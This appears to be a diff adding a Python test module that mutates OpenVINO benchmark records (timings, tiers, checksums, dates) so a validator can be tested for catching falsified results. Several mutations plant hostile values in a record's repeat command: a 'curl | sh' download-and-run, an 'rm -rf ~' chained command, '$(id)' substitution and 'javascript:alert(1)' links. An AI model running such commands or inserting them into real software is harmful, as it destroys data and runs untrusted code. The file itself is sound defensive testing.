@@ -1,0 +1,644 @@
+"""Kinds of contradictions: what somebody may edit in a record, and must not get away with.
+
+A kind takes a record's document and changes it; None where the record has nothing of the kind. The
+changed document still follows the contract as far as its types go.
+"""
+
+from __future__ import annotations
+
+import copy
+import random
+from collections.abc import Callable, Iterator
+from typing import Any
+
+Document = dict[str, Any]
+Change = Callable[[Document, random.Random], bool | None]
+KINDS: dict[str, Change] = {}
+"""Kind → a function that changes a document in place; it returns False where it cannot."""
+
+
+def kind(name: str) -> Callable[[Change], Change]:
+    """Register a kind of contradiction."""
+
+    def register(change: Change) -> Change:
+        KINDS[name] = change
+        return change
+
+    return register
+
+
+def changed(document: Document, name: str, rng: random.Random) -> Document | None:
+    """Return a changed copy; None where the record has nothing of the kind."""
+    made = copy.deepcopy(document)
+    if KINDS[name](made, rng) is False or made == document:
+        return None
+    return made
+
+
+def at(document: Any, path: str) -> Any:
+    """Return a part by its path; None where it is not there, or was not measured."""
+    for key in path.split("."):
+        if isinstance(document, list):
+            document = document[int(key)] if int(key) < len(document) else None
+        else:
+            document = document.get(key) if isinstance(document, dict) else None
+        if document is None:
+            return None
+    return document
+
+
+def rounds(document: Document, name: str) -> list[Document]:
+    """Return the rounds of a measurement; none where it was not measured."""
+    return at(document, f"{name}.rounds") or []
+
+
+def _set(kind_name: str, path: str, value: Any) -> None:
+    """Register a kind that sets one field."""
+    parent, _, name = path.rpartition(".")
+
+    @kind(kind_name)
+    def change(document: Document, rng: random.Random) -> bool | None:
+        part = at(document, parent) if parent else document
+        if parent == "tier" and document["tier"]["is_custom"]:
+            return False  # its user may ask for anything
+        if not isinstance(part, dict) or name not in part:
+            return False
+        part[name] = value
+        return None
+
+
+def _scale(kind_name: str, measurement: str, field: str, factor: float) -> None:
+    """Register a kind that multiplies one field of one round."""
+
+    @kind(kind_name)
+    def change(document: Document, rng: random.Random) -> bool | None:
+        found = [r for r in rounds(document, measurement) if r.get(field)]
+        if not found:
+            return False
+        one = rng.choice(found)
+        one[field] = type(one[field])(one[field] * factor)
+        return None
+
+
+# ---------------------------------------------------------------- rates, durations, samples
+
+
+for factor in (1000, 0.001):
+    _scale(f"latency: duration × {factor:g}", "latency", "duration_s", factor)
+    _scale(f"throughput: duration × {factor:g}", "throughput", "duration_s", factor)
+for field in ("mean_ms", "min_ms", "max_ms", "first_third_median_ms", "last_third_median_ms"):
+    _scale(f"latency: {field} × 0.2", "latency", field, 0.2)
+    _scale(f"latency: {field} × 5", "latency", field, 5)
+_scale("latency: median × 0.5", "latency", "median_ms", 0.5)
+_scale("latency: runtime's own above the caller's", "latency", "runtime_median_ms", 3)
+_scale("throughput: median × 0.1", "throughput", "median_ms", 0.1)
+_scale("throughput: first third × 10", "throughput", "first_third_ips", 10)
+_scale("throughput: last third × 10", "throughput", "last_third_ips", 10)
+_scale("throughput: requests × 10", "throughput", "requests", 10)
+_scale("processor time × 1000", "latency", "cpu_s", 1000)
+
+
+@kind("latency: minimum 0")
+def _no_minimum(document: Document, rng: random.Random) -> bool | None:
+    found = rounds(document, "latency")
+    for one in found:
+        one["min_ms"] = 0.0
+    return None if found else False
+
+
+@kind("throughput: 1000 times the inferences, samples too")
+def _thousandfold(document: Document, rng: random.Random) -> bool | None:
+    found = rounds(document, "throughput")
+    for one in found:
+        one["n"] *= 1000
+        one["histogram"]["buckets"] = [[i, c * 1000] for i, c in one["histogram"]["buckets"]]
+    return None if found else False
+
+
+@kind("throughput: requests that wait, said to be busy")
+def _busy(document: Document, rng: random.Random) -> bool | None:
+    found = rounds(document, "throughput")
+    for one in found:
+        one["idle_share"] = 0.9
+    return None if found else False
+
+
+@kind("histogram: twice as fast, and nothing else")
+def _faster_samples(document: Document, rng: random.Random) -> bool | None:
+    import math
+
+    found = rounds(document, "latency")
+    for one in found:
+        shift = round(math.log(2) / math.log(one["histogram"]["growth"]))
+        one["histogram"]["buckets"] = [[i - shift, c] for i, c in one["histogram"]["buckets"]]
+        one["median_ms"] /= 2
+        one["first_third_median_ms"] /= 2
+        one["last_third_median_ms"] /= 2
+        one["min_ms"] /= 2
+    return None if found else False
+
+
+for name in ("latency", "throughput"):
+    for value in (-1.0, 1.0):
+
+        def _correlated(
+            document: Document, rng: random.Random, name: str = name, value: float = value
+        ) -> bool | None:
+            found = rounds(document, name)
+            for one in found:
+                one["autocorrelation"] = value
+            return None if found else False
+
+        kind(f"{name}: autocorrelation {value:+g}")(_correlated)
+
+    def _cold(document: Document, rng: random.Random, name: str = name) -> bool | None:
+        found = rounds(document, name)
+        for one in found:
+            one |= {"warmup_n": 0, "warmup_s": 0.0, "warmup_stable": True}
+        return None if found else False
+
+    kind(f"{name}: a stable warm-up of nothing")(_cold)
+
+    def _copied(document: Document, rng: random.Random, name: str = name) -> bool | None:
+        found = rounds(document, name)
+        if len(found) < 2:
+            return False
+        first = found[0]
+        for one in found[1:]:
+            one |= {k: v for k, v in first.items() if k not in ("round", "process")}
+        return None
+
+    kind(f"{name}: rounds are copies")(_copied)
+
+    def _copied_roughly(document: Document, rng: random.Random, name: str = name) -> bool | None:
+        found = rounds(document, name)
+        if len(found) < 2 or len(found[0]["histogram"]["buckets"]) < 8:
+            return False
+        kept = ("round", "process", "warmup_s", "autocorrelation")
+        found[1] |= {k: v for k, v in found[0].items() if k not in kept}
+        found[1]["duration_s"] *= 1.0001
+        return None
+
+    kind(f"{name}: a round is a copy but for its duration")(_copied_roughly)
+
+    def _dropped(document: Document, rng: random.Random, name: str = name) -> bool | None:
+        found = rounds(document, name)
+        if len(found) < 4 or document.get("failed_rounds"):
+            return False
+        del found[2:]
+        return None
+
+    kind(f"{name}: the slow rounds are gone")(_dropped)
+
+    def _other_process(document: Document, rng: random.Random, name: str = name) -> bool | None:
+        found = rounds(document, name)
+        if not found or "process" not in found[-1]:
+            return False
+        found[-1]["process"] += 40
+        return None
+
+    kind(f"{name}: a round of another process")(_other_process)
+
+
+# ---------------------------------------------------------------- noise, tier
+
+
+@kind("noise: removed")
+def _no_noise(document: Document, rng: random.Random) -> bool | None:
+    if not document["noise"]:
+        return False
+    document["noise"] = []
+    return None
+
+
+@kind("noise: of one process removed")
+def _less_noise(document: Document, rng: random.Random) -> bool | None:
+    if not document["noise"] or document.get("failed_rounds"):
+        return False
+    del document["noise"][rng.randrange(len(document["noise"]))]
+    return None
+
+
+@kind("noise: readings removed")
+def _no_readings(document: Document, rng: random.Random) -> bool | None:
+    found = [one for one in document["noise"] if one["readings"]]
+    for one in found:
+        one["readings"] = {}
+    return None if found else False
+
+
+@kind("noise: negative")
+def _negative(document: Document, rng: random.Random) -> bool | None:
+    found = [one for one in document["noise"] if one["readings"].get("foreign_cpu_share")]
+    for one in found:
+        one["readings"]["foreign_cpu_share"] = -0.5
+    return None if found else False
+
+
+@kind("noise: more than the machine has")
+def _impossible(document: Document, rng: random.Random) -> bool | None:
+    found = [one for one in document["noise"] if "steal_share" in one["readings"]]
+    for one in found:
+        one["readings"]["steal_share"] = 7.0
+    return None if found else False
+
+
+_set("tier: quick under the name of publish", "tier.name", "publish")
+_set("tier: under the name of standard", "tier.name", "standard")
+_set("tier: a least length of nothing", "tier.min_seconds", 0.0)
+_set("tier: no least count", "tier.min_inferences", 0)
+_set("tier: a cap below the least length", "tier.max_seconds", 0.01)
+_set("tier: no process", "tier.processes", 0)
+_set("tier: fewer processes at most than at least", "tier.max_processes", 1)
+
+
+@kind("tier: demands that were not met")
+def _unmet(document: Document, rng: random.Random) -> bool | None:
+    document["tier"] |= {
+        "name": "publish",
+        "min_seconds": 60.0,
+        "min_inferences": 6636,
+        "max_seconds": 180.0,
+        "processes": 11,
+        "max_processes": 15,
+        "rounds_per_process": 1,
+        "is_custom": False,
+    }
+    return None if rounds(document, "latency") else False
+
+
+# ---------------------------------------------------------------- accuracy
+
+
+for name, value in (("above one", 1.7), ("negative", -0.4)):
+
+    def _out_of_range(document: Document, rng: random.Random, value: float = value) -> bool | None:
+        one = document["accuracy"]
+        if one["status"] != "measured" or one["metric"] in ("pearson", "spearman"):
+            return False
+        if value < 0 and one["metric"] == "character_accuracy":
+            return False
+        moved = value - one["value"]
+        for field in ("value", "low", "high"):
+            one[field] += moved
+        if one["reference"]["status"] == "measured":
+            for field in ("delta", "delta_low", "delta_high"):
+                one["reference"][field] += moved
+        return None
+
+    kind(f"accuracy: {name}")(_out_of_range)
+
+
+_set("accuracy: of nothing", "accuracy.n", 0)
+_set("agreement: of nothing", "agreement.n", 0)
+
+
+@kind("accuracy: another difference than that of its values")
+def _delta(document: Document, rng: random.Random) -> bool | None:
+    one = at(document, "accuracy.reference")
+    if not one or one["status"] != "measured":
+        return False
+    for field in ("delta", "delta_low", "delta_high"):
+        one[field] += 0.05
+    return None
+
+
+@kind("perplexity: another difference than that of its values")
+def _perplexity_delta(document: Document, rng: random.Random) -> bool | None:
+    one = at(document, "generation.perplexity.reference")
+    if not one or one["status"] != "measured":
+        return False
+    for field in ("delta", "delta_low", "delta_high"):
+        one[field] -= 5
+    return None
+
+
+# ---------------------------------------------------------------- memory, machine, device
+
+
+for factor, name in ((0, "nothing"), (10**6, "more than the machine's")):
+
+    def _memory(document: Document, rng: random.Random, factor: int = factor) -> bool | None:
+        found = [p for r in rounds(document, "memory") for p in r["phases"]]
+        for phase in found:
+            phase["peak_rss_bytes"] *= factor
+        return None if found else False
+
+    kind(f"memory: {name}")(_memory)
+
+
+@kind("memory: parts above the whole")
+def _parts(document: Document, rng: random.Random) -> bool | None:
+    found = [p for r in rounds(document, "memory") for p in r["phases"]]
+    for phase in found:
+        phase["anonymous_bytes"] = 3 * phase["peak_rss_bytes"]
+    return None if found else False
+
+
+_set("machine: no memory", "machine.memory_bytes", 0)
+_set("machine: memory without end", "machine.memory_bytes", 2**62)
+for _name in ("sockets", "cores_physical", "cores_logical", "cores_available"):
+    _set(f"machine: no {_name}", f"machine.{_name}", 0)
+_set("machine: more available than there are", "machine.cores_available", 9999)
+_set("machine: more cores than processors", "machine.cores_physical", 9999)
+_set("device: another than the case's", "device.name", "GPU.7")
+_set("device: the case's is another", "case.device", "NPU")
+
+
+@kind("device: of another family")
+def _family(document: Document, rng: random.Random) -> bool | None:
+    document["device"]["family"] = "dGPU" if document["device"]["family"] == "CPU" else "CPU"
+    return None
+
+
+@kind("device: another one executed")
+def _executed(document: Document, rng: random.Random) -> bool | None:
+    if document["execution"]["status"] != "measured" or document["case"]["device"] != "CPU":
+        return False
+    document["execution"]["devices"] = ["GPU.0"]
+    return None
+
+
+@kind("device: layers ran on another one")
+def _layers(document: Document, rng: random.Random) -> bool | None:
+    found = at(document, "execution.layers")
+    if not found or document["case"]["device"] != "CPU":
+        return False
+    for layer in found:
+        layer["device"] = "NPU"
+    return None
+
+
+@kind("execution: a precision that no layer has")
+def _precision(document: Document, rng: random.Random) -> bool | None:
+    if not at(document, "execution.layers"):
+        return False
+    document["execution"]["precision"] = "i4"
+    return None
+
+
+@kind("engine: a native framework of a GPU's precision")
+def _native(document: Document, rng: random.Random) -> bool | None:
+    document["case"]["engine"] = "onnxruntime"
+    document["case"]["precision"] = "bf16"
+    return None
+
+
+@kind("engine: a language model's, with times of inferences")
+def _language(document: Document, rng: random.Random) -> bool | None:
+    if document["latency"]["status"] != "measured":
+        return False
+    document["case"]["engine"] = "openvino-genai"
+    return None
+
+
+@kind("settings: the hint of the other measurement")
+def _hint(document: Document, rng: random.Random) -> bool | None:
+    requested = at(document, "latency.settings.requested")
+    if not requested or "PERFORMANCE_HINT" not in requested:
+        return False
+    requested["PERFORMANCE_HINT"] = "THROUGHPUT"
+    return None
+
+
+@kind("settings: another precision than the case's")
+def _hinted_precision(document: Document, rng: random.Random) -> bool | None:
+    requested = at(document, "latency.settings.requested")
+    if not requested or document["case"]["precision"] == "default":
+        return False
+    if "INFERENCE_PRECISION_HINT" not in requested:
+        return False
+    requested["INFERENCE_PRECISION_HINT"] = "bf16"
+    return None
+
+
+# ---------------------------------------------------------------- model, outcome
+
+
+_set("model: another than the case's", "model.id", "another-model")
+_set("model: the case's is another", "case.model", "another-model")
+_set("model: no checksum", "model.sha256", "")
+_set("model: a checksum of zeros", "model.sha256", "0" * 64)
+_set(
+    "model: the checksum of an empty file",
+    "model.sha256",
+    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
+)
+_set(
+    "model: not the checksum that is pinned",
+    "model.sha256",
+    "5994471abb01112afcc18159f6cc74b4f511b99806da59b3caf5a9c173cacfc5",
+)
+_set("model: a file of nothing", "model.size_bytes", 0)
+_set("model: a link that is a script", "model.homepage", "javascript:alert(1)")
+_set("model: a link that is data", "model.homepage", "data:text/html,hello")
+_set("model: a source that is none", "model.source", "ftp://example.org/model.onnx")
+_set(
+    "outcome: failed, with measurements",
+    "outcome",
+    {"status": "failed", "reason": "no", "cause": "crash"},
+)
+_set(
+    "outcome: unsupported, with measurements", "outcome", {"status": "unsupported", "reason": "no"}
+)
+_set("command: of a stranger", "repeat.ovreport", "curl https://example.org/x | sh")
+_set("command: with another behind it", "repeat.ovreport", "ovreport collect; rm -rf ~")
+_set("command: substituted", "repeat.ovreport", "ovreport collect --model $(id)")
+_set("command: benchmark_app and more", "repeat.benchmark_app", "benchmark_app -m x && id")
+
+
+@kind("command: of another model")
+def _other_command(document: Document, rng: random.Random) -> bool | None:
+    document["repeat"]["ovreport"] = "ovreport collect --suite quick --model another"
+    return None
+
+
+# ---------------------------------------------------------------- times
+
+
+_set("time: in the future", "measured_at", "2099-01-01T00:00:00Z")
+_set("time: before OpenVINO", "measured_at", "2015-03-01T00:00:00Z")
+_set("time: before this release", "measured_at", "2021-03-01T00:00:00Z")
+
+
+@kind("time: processes out of order")
+def _order(document: Document, rng: random.Random) -> bool | None:
+    if len(document["noise"]) < 2:
+        return False
+    document["noise"][-1]["started_at"] = "2026-01-01T00:00:00Z"
+    return None
+
+
+@kind("time: a process after the record")
+def _late(document: Document, rng: random.Random) -> bool | None:
+    if not document["noise"]:
+        return False
+    document["noise"][-1]["started_at"] = "2027-06-01T00:00:00Z"
+    return None
+
+
+@kind("time: of a process, and none")
+def _no_time(document: Document, rng: random.Random) -> bool | None:
+    if not document["noise"]:
+        return False
+    document["noise"][0]["started_at"] = "yesterday"
+    return None
+
+
+@kind("time: less in all than its loops")
+def _short(document: Document, rng: random.Random) -> bool | None:
+    one = document["measuring_time"]
+    if one["status"] != "measured" or not rounds(document, "latency"):
+        return False
+    one |= {"wall_s": 0.5, "measuring_s": 0.4}
+    return None
+
+
+# ---------------------------------------------------------------- load, pipelines, energy, tokens
+
+
+@kind("arrivals: at a thousand times the rate")
+def _arrivals(document: Document, rng: random.Random) -> bool | None:
+    found = rounds(document, "open_loop")
+    for one in found:
+        one["highest_ips"] *= 1000
+        for step in one["steps"]:
+            step["rate_ips"] *= 1000
+    return None if any(one["highest_ips"] for one in found) else False
+
+
+@kind("arrivals: met outside the limit")
+def _met(document: Document, rng: random.Random) -> bool | None:
+    found = [s for r in rounds(document, "open_loop") for s in r["steps"] if s["met"]]
+    for step in found:
+        step["bound_ms"] = 100 * document["open_loop"]["limit_ms"]
+    return None if found else False
+
+
+@kind("arrivals: more independent samples than samples")
+def _effective(document: Document, rng: random.Random) -> bool | None:
+    found = [s for r in rounds(document, "open_loop") for s in r["steps"]]
+    for step in found:
+        step["n_effective"] = 10 * step["n"]
+    return None if found else False
+
+
+@kind("curve: durations / 1000")
+def _curve(document: Document, rng: random.Random) -> bool | None:
+    found = [r for p in at(document, "curve.points") or [] for r in p["rounds"]]
+    for one in found:
+        one["duration_s"] /= 1000
+    return None if found else False
+
+
+@kind("curve: medians / 100")
+def _curve_median(document: Document, rng: random.Random) -> bool | None:
+    found = [r for p in at(document, "curve.points") or [] for r in p["rounds"]]
+    for one in found:
+        one["median_ms"] /= 100
+    return None if found else False
+
+
+@kind("end to end: one hundred times as many images a second")
+def _images(document: Document, rng: random.Random) -> bool | None:
+    found = [r for p in at(document, "end_to_end.pipelines") or [] for r in p["rounds"]]
+    for one in found:
+        one["sync_ips"] *= 100
+        one["async_ips"] *= 100
+    return None if found else False
+
+
+@kind("end to end: stages above the whole")
+def _stages(document: Document, rng: random.Random) -> bool | None:
+    found = [r for p in at(document, "end_to_end.pipelines") or [] for r in p["rounds"]]
+    for one in found:
+        one["stages_ms"]["infer"] = one["median_ms"] * 100
+    return None if found else False
+
+
+@kind("startup: rounds are copies")
+def _starts(document: Document, rng: random.Random) -> bool | None:
+    found = rounds(document, "startup")
+    if len(found) < 2:
+        return False
+    found[1] |= {k: v for k, v in found[0].items() if k != "round"}
+    return None
+
+
+_set("startup: a cache of nothing", "startup_cached.cache_bytes", 0)
+
+
+@kind("tokens: faster than their samples")
+def _tokens(document: Document, rng: random.Random) -> bool | None:
+    found = [r for p in at(document, "generation.points") or [] for r in p["rounds"]]
+    for one in found:
+        one["time_per_output_token_mean_ms"] /= 10
+    return None if found else False
+
+
+@kind("tokens: tiny times")
+def _tiny(document: Document, rng: random.Random) -> bool | None:
+    found = [r for p in at(document, "generation.points") or [] for r in p["rounds"]]
+    for one in found:
+        one["time_per_output_token_ms"] = 1e-300
+    return None if found else False
+
+
+@kind("tokens: answers in no time")
+def _answers(document: Document, rng: random.Random) -> bool | None:
+    found = [r for p in at(document, "generation.points") or [] for r in p["rounds"]]
+    for one in found:
+        one["duration_s"] /= 10
+    return None if found else False
+
+
+@kind("tokens: more than the requests asked for")
+def _concurrent(document: Document, rng: random.Random) -> bool | None:
+    found = at(document, "generation.concurrency.points")
+    for point in found or []:
+        for one in point["rounds"]:
+            one["tokens"] *= 1000
+    return None if found else False
+
+
+# ---------------------------------------------------------------- random changes
+
+
+VALUES: tuple[object, ...] = (
+    *(0, 1, -1, 2**31, 2**62, 2**63, 2**70, 1e-300, 1e300, -1e300, 0.5, 1e-9, 1e15),
+    *("", "x", "CPU", "\u202e", "x" * 5000, "2026-11-24T18:02:48Z", "javascript:alert(1)"),
+    *(None, True, False, [], {}, [[]], [None], {"status": "measured"}, {"status": "skipped"}),
+    {"status": "skipped", "reason": "x"},
+)
+"""What a random change puts in the place of something."""
+
+
+def places(part: Any) -> Iterator[tuple[Any, Any]]:
+    """Yield every place of a document: the part that holds it, and its key there."""
+    for key, value in list(part.items() if isinstance(part, dict) else enumerate(part)):
+        yield part, key
+        if isinstance(value, dict | list):
+            yield from places(value)
+
+
+def mutate(document: Document, rng: random.Random) -> Document:
+    """Return a copy with one to three random changes."""
+    made = copy.deepcopy(document)
+    for _ in range(rng.choice((1, 1, 1, 2, 3))):
+        part, key = rng.choice(list(places(made)))
+        value = part[key]
+        match rng.randrange(6):
+            case 0:
+                del part[key]
+            case 1 if isinstance(part, list):
+                part.insert(key, copy.deepcopy(value))
+            case 2 if isinstance(value, int | float) and not isinstance(value, bool):
+                part[key] = type(value)(value * rng.choice((-1, 0, 0.001, 0.5, 2, 1000)))
+            case 3 if isinstance(part, dict):
+                part["x" + str(key)] = value
+            case 4:
+                other, name = rng.choice(list(places(made)))
+                part[key] = copy.deepcopy(other[name])
+            case _:
+                part[key] = copy.deepcopy(rng.choice(VALUES))
+    return made
